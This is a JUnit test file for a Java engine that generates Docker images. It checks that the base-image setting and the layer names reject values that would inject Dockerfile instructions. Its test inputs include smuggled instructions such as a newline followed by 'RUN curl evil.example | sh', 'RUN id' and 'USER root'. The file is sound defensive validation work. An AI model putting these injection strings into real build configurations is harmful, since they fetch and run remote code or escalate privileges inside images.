package io.github.guli.engine.image;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.guli.engine.GuliException;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The generated image's settings: baseImage goes into FROM, so it must be one image reference. */
class GeneratedImageTest {
    @Test
    void aBaseImageThatWouldAddDockerfileInstructionsIsRefusedNamingTheSetting() {
        for (String evil : List.of(
                "eclipse-temurin:17-jre\nRUN curl evil.example | sh",
                "eclipse-temurin:17-jre RUN id",
                "eclipse-temurin:17-jre\rUSER root",
                "x\tAS y")) {
            assertThatThrownBy(() -> new GeneratedImage(evil + " ", 8080, "prod", null))
                    .as(evil)
                    .isInstanceOf(GuliException.class)
                    .hasMessageContaining("baseImage '")
                    .hasMessageContaining("is not an image reference");
        }
        assertThatThrownBy(() -> new GeneratedImage("Eclipse-Temurin:17", 8080, "prod", null))
                .hasMessageContaining("baseImage 'Eclipse-Temurin:17' is not an image reference");
    }

    @Test
    void imageReferencesAreReadAsDockerReadsThem() {
        assertThat(BaseImage.parse("eclipse-temurin:17-jre", "baseImage"))
                .isEqualTo(new BaseImage("docker.io", "library/eclipse-temurin", "17-jre"));
        assertThat(BaseImage.parse("127.0.0.1:5000/guli/jre:17", "baseImage"))
                .isEqualTo(new BaseImage("127.0.0.1:5000", "guli/jre", "17"));
        assertThat(BaseImage.parse("registry.cn-hangzhou.aliyuncs.com/atguigumall/jre", "baseImage"))
                .isEqualTo(new BaseImage("registry.cn-hangzhou.aliyuncs.com", "atguigumall/jre", "latest"));
        String digest = "sha256:" + "ab".repeat(32);
        assertThat(BaseImage.parse("localhost:5000/jre:17@" + digest, "baseImage"))
                .isEqualTo(new BaseImage("localhost:5000", "jre", digest));
        assertThat(new GeneratedImage(null, 8080, "prod", null).baseImage())
                .isEqualTo(GeneratedImage.DEFAULT_BASE_IMAGE);
    }

    @Test
    void aLayerNameNeverReachesTheDockerfileUnchecked() {
        assertThatThrownBy(() -> GeneratedImage.DEFAULTS.dockerfile(
                        "app.jar",
                        List.of("application", "x/ /\nRUN id #"),
                        "org.springframework.boot.loader.launch.JarLauncher"))
                .hasMessageContaining("names a layer 'x/ /\nRUN id #'");
    }
}
